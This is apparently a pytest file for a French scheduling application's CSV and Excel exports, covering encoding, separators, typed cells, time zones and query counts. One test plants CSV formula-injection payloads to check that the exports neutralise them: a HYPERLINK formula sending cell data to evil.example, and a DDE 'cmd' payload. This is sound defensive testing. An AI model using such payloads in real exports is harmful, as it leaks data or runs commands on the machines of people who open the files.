"""Spreadsheet-friendly exports (#19, point 8): every CSV opens in French Excel as it is (UTF-8 with a BOM, `;`,
decimal commas), the schedule comes as an Excel workbook too (typed cells, the header bold and frozen), and a formula
typed by a school runs in neither."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time, timedelta

import pytest
from openpyxl import load_workbook

from app.domain import offers
from app.domain.exports import CSV_COLUMNS, export_xlsx
from app.extensions import db
from app.models import Audience, Force, Topic
from tests.factories import (
    MONDAY_9,
    make_confirmed_session,
    make_coordinator,
    make_establishment,
    make_qualified_trainer,
    make_request,
    make_session_in_planning,
    make_trainer,
)
from tests.helpers import count_queries, login

EXPORT = "/calendrier/export"
JANUARY = {"date_from": "2027-01-01", "date_to": "2027-01-31", "statuses": ["confirmed", "done"]}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Collège")'
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "a byte-order mark: French Excel reads the file as UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _sheet(body: bytes):
    return load_workbook(io.BytesIO(body)).worksheets[0]


@pytest.fixture
def accented(app, clock):
    intervention, trainer, coordinator = make_confirmed_session()
    establishment = intervention.request.establishment
    establishment.name, establishment.commune_name = "Collège Saint-Exupéry", "Villeurbanne-Étoile"
    intervention.request.contact_name = "Mme Hélène Lefèvre"
    db.session.commit()
    return intervention, trainer, coordinator


def test_the_schedule_csv_opens_in_french_excel_with_its_accents(client, accented):
    intervention, trainer, coordinator = accented
    login(client, coordinator)
    response = client.get(EXPORT, query_string={**JANUARY, "format": "csv"})
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="relais-interventions.csv"' in response.headers["Content-Disposition"]
    first_line = response.data.split(b"\r\n", 1)[0]
    assert first_line == ("\ufeff" + ";".join(CSV_COLUMNS)).encode("utf-8"), "semicolons, not commas"
    header, row = _csv_rows(response.data)
    values = dict(zip(header, row, strict=True))
    assert (values["établissement"], values["commune"], values["contact"], values["état"]) == (
        "Collège Saint-Exupéry", "Villeurbanne-Étoile", "Mme Hélène Lefèvre", "confirmée")
    assert (values["date"], values["début"], values["fin"]) == ("11/01/2027", "09:00", "10:00")


def test_the_schedule_as_an_excel_workbook_with_typed_cells(client, accented):
    intervention, trainer, coordinator = accented
    login(client, coordinator)
    response = client.get(EXPORT, query_string={**JANUARY, "format": "xlsx"})
    assert response.status_code == 200 and response.headers["Content-Type"] == XLSX_TYPE
    assert 'filename="relais-interventions.xlsx"' in response.headers["Content-Disposition"]
    sheet = _sheet(response.data)
    assert [c.value for c in sheet[1]] == list(CSV_COLUMNS), "the same columns as the CSV"
    assert all(c.font.b for c in sheet[1]) and sheet.freeze_panes == "A2", "a bold header that stays on screen"
    assert sheet.auto_filter.ref == "A1:R2"
    assert all(sheet.column_dimensions[letter].width >= 6 for letter in "ABCDEFGHIJKLMNOPQR")
    assert sheet.column_dimensions["G"].width >= len("Collège Saint-Exupéry"), "a column as wide as its text"
    assert sheet.max_row == 2
    values = {column: cell for column, cell in zip(CSV_COLUMNS, sheet[2], strict=True)}
    # The day a date, start and end times: of Lyon (9:00 is 8:00 UTC in January).
    assert values["date"].value == datetime(2027, 1, 11) and values["date"].number_format == "dd/mm/yyyy"
    assert values["début"].value == time(9, 0) and values["fin"].value == time(10, 0)
    assert values["début"].number_format == "hh:mm" and values["date"].is_date
    assert values["personnes"].value == intervention.request.people_per_group and values["personnes"].data_type == "n"
    assert values["demande"].value == intervention.request_id and values["demande"].data_type == "n"
    assert values["département"].value == "69" and values["département"].data_type == "s", "a code stays a text"
    assert values["établissement"].value == "Collège Saint-Exupéry"
    assert values["formateurs"].value == trainer.full_name and values["matricules"].value == trainer.matricule


def test_an_overseas_session_is_written_in_its_own_local_time(app, clock):
    establishment = make_establishment("974", force=Force.GENDARMERIE, name="Lycée Leconte-de-Lisle")
    request = make_request(establishment, status="in_planning", group_count=1)
    intervention = request.interventions[0]
    trainer = make_trainer("974", Force.GENDARMERIE)
    trainer.topics = [db.session.get(Topic, "cannabis")]
    trainer.audiences = [db.session.get(Audience, "4e")]
    start = datetime(2027, 1, 11, 5, 0, tzinfo=UTC)  # 9:00 in Saint-Denis (UTC+4)
    offers.assign_directly(db.session, intervention, trainer, start, start + timedelta(hours=1, minutes=30),
                           make_coordinator("974", Force.GENDARMERIE), clock.now())
    db.session.flush()
    sheet = _sheet(export_xlsx([intervention]))
    values = {column: cell.value for column, cell in zip(CSV_COLUMNS, sheet[2], strict=True)}
    assert (values["date"], values["début"], values["fin"], values["fuseau"]) == (
        datetime(2027, 1, 11), time(9, 0), time(10, 30), "Indian/Reunion")


def test_a_formula_typed_by_a_school_runs_neither_in_the_csv_nor_in_the_workbook(client, app, clock):
    intervention, trainer, coordinator = make_confirmed_session()
    request = intervention.request
    request.establishment.name, request.contact_name = HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"
    request.contact_phone = "+33 4 00 00 00 00"
    db.session.commit()
    login(client, coordinator)

    header, row = _csv_rows(client.get(EXPORT, query_string={**JANUARY, "format": "csv"}).data)
    values = dict(zip(header, row, strict=True))
    assert values["établissement"] == "'" + HYPERLINK, "quoted: a spreadsheet shows it as text"
    assert values["contact"].startswith("'@") and values["téléphone"] == "'+33 4 00 00 00 00"

    workbook = client.get(EXPORT, query_string={**JANUARY, "format": "xlsx"}).data
    cells = {column: cell for column, cell in zip(CSV_COLUMNS, _sheet(workbook)[2], strict=True)}
    for column, typed in (("établissement", HYPERLINK), ("contact", request.contact_name),
                          ("téléphone", "+33 4 00 00 00 00")):
        cell = cells[column]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True), column
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula anywhere in the sheet"
    assert "HYPERLINK" in sheet_xml


def test_the_export_page_offers_three_formats_with_labels(client, app, clock):
    login(client, make_coordinator("69", Force.POLICE))
    db.session.commit()
    page = client.get(EXPORT).get_data(as_text=True)
    radios = re.findall(r'<input[^>]*name="format"[^>]*>', page)
    assert [re.search(r'value="([^"]+)"', radio)[1] for radio in radios] == ["ics", "csv", "xlsx"]
    for radio in radios:
        identifier = re.search(r'id="([^"]+)"', radio)[1]
        assert re.search(rf'<label[^>]*for="{identifier}"[^>]*>[^<]+</label>', page), identifier
    assert "Classeur Excel (.xlsx)" in page and "Tableur CSV (.csv)" in page and "Agenda iCalendar (.ics)" in page
    bad = client.get(EXPORT, query_string={**JANUARY, "format": "pdf"})
    assert bad.status_code == 400


def test_the_spreadsheets_read_the_same_statements_for_one_session_and_for_many(client, app, clock):
    intervention = make_session_in_planning(group_count=4, contact_email="cpe@college.example")
    coordinator = make_coordinator("69", Force.POLICE)
    trainers = [make_qualified_trainer() for _ in range(2)]
    for hour, (session, trainer) in enumerate(zip(intervention.request.interventions, trainers * 2, strict=True)):
        start = MONDAY_9 + timedelta(hours=2 * hour)
        offers.assign_directly(db.session, session, trainer, start, start + timedelta(hours=1), coordinator,
                               clock.now())
    db.session.commit()
    login(client, coordinator)
    client.get(EXPORT)  # the person's scope read once, as on any first page
    for file_format in ("csv", "xlsx"):
        counts = []
        # An export is recorded as a read in bulk (#21): its commit expires the person's rows, which the next
        # request reads again. One export first, so that both measured ones start alike.
        client.get(EXPORT, query_string={**JANUARY, "format": file_format})
        for matricule, expected in ((trainers[0].matricule, 2), ("", 4)):
            with count_queries() as statements:
                body = client.get(EXPORT, query_string={**JANUARY, "format": file_format, "trainer": matricule}).data
            rows = _csv_rows(body)[1:] if file_format == "csv" else list(_sheet(body).iter_rows(min_row=2))
            assert len(rows) == expected
            counts.append(len(statements))
        assert counts[0] == counts[1], (file_format, counts)


def test_the_command_writes_the_same_spreadsheets(app, runner, clock, tmp_path):
    intervention, trainer, _ = make_confirmed_session()
    for name in ("planning.csv", "planning.xlsx"):
        output = tmp_path / name
        result = runner.invoke(args=["export-sessions", "--from", "2027-01-11", "--to", "2027-01-11",
                                     "--output", str(output)])
        assert result.exit_code == 0 and "1 intervention(s) exportée(s)" in result.output, result.output
    assert _csv_rows((tmp_path / "planning.csv").read_bytes())[1][:3] == ["11/01/2027", "09:00", "10:00"]
    sheet = _sheet((tmp_path / "planning.xlsx").read_bytes())
    assert sheet["A2"].value == datetime(2027, 1, 11) and sheet["B2"].value == time(9, 0)
    forced = tmp_path / "planning.txt"
    assert runner.invoke(args=["export-sessions", "--format", "xlsx", "--output", str(forced)]).exit_code == 0
    assert zipfile.is_zipfile(forced)
    ics = tmp_path / "planning.ics"
    assert runner.invoke(args=["export-ics", "--output", str(ics)]).exit_code == 0, "its first name still works"
    assert ics.read_text(encoding="utf-8").startswith("BEGIN:VCALENDAR")


def test_the_statistics_csv_opens_in_french_excel_with_decimal_commas(client, app, clock):
    from app.domain import reports

    intervention, trainer, coordinator = make_confirmed_session()
    clock.freeze(intervention.ends_at + timedelta(hours=1))
    reports.save_report(db.session, intervention, trainer,
                        reports.ReportData(held=True, people_present=27, topic_codes=("cannabis",)), trainer.user,
                        clock.now())
    db.session.commit()
    login(client, coordinator)
    period = {"date_from": "2026-09-01", "date_to": "2027-08-31"}
    response = client.get("/statistiques/synthese.csv", query_string=period)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = dict(_csv_rows(response.data)[1:])
    assert rows["Personnes touchées"] == "27"
    assert rows["Part des demandes servies (%)"] == "100,0", "a decimal comma: French Excel reads a number"
    themes = _csv_rows(client.get("/statistiques/themes.csv", query_string=period).data)
    assert themes[0][0] == "Thème" and themes[1][1:] == ["1", "27"]


def test_a_date_of_the_workbook_is_a_real_date_for_every_kind_of_value():
    from app.domain.imports.tables import xlsx_file

    sheet = _sheet(xlsx_file([["jour", "heure", "instant", "nombre", "texte", "vide"],
                              [date(2027, 12, 31), time(23, 30), datetime(2027, 12, 31, 23, 30), 12.5,
                               "ligne\x01de contrôle", None]], sheet="Essai"))
    assert sheet.title == "Essai"
    assert [c.value for c in sheet[2]] == [datetime(2027, 12, 31), time(23, 30), datetime(2027, 12, 31, 23, 30),
                                          12.5, "lignede contrôle", None]
    assert [c.number_format for c in sheet[2]][:3] == ["dd/mm/yyyy", "hh:mm", "dd/mm/yyyy hh:mm"]
